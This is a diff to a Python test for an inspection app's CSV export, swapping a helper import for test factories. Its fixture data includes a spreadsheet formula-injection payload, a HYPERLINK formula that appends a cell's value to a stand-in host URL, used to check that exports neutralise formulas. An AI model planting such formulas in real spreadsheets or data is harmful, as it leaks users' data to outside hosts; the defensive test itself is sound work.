@@ -27,7 +27,7 @@ from inspector.spreadsheet import csv_bytes, csv_field, looks_like_formula
 from inspector.storage.db import Database
 from inspector.storage.models import Answer, Inspection, Site
 from inspector.storage.types import utcnow
-from tests.followup.helpers import sample_form
+from tests.factories import FORM_ID, checklist
 
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
@@ -44,7 +44,7 @@ def _hostile_districts(db: Database) -> None:
     """One site in each hostile district, each with a finalized inspection that has a finding."""
     now = utcnow()
     with db.write() as s:
-        sha = store_snapshot(s, sample_form())
+        sha = store_snapshot(s, checklist())
         for n, district in enumerate(HOSTILE):
             site = Site(id=uuid.uuid4(), kind="clinic", name=f"诊所{n}", district=district, search_text="x")
             s.add(site)
@@ -53,7 +53,7 @@ def _hostile_districts(db: Database) -> None:
                 id=uuid.uuid4(),
                 site_id=site.id,
                 kind="routine",
-                form_id="fu-test",
+                form_id=FORM_ID,
                 form_version="1",
                 form_sha256=sha,
                 status="finalized",
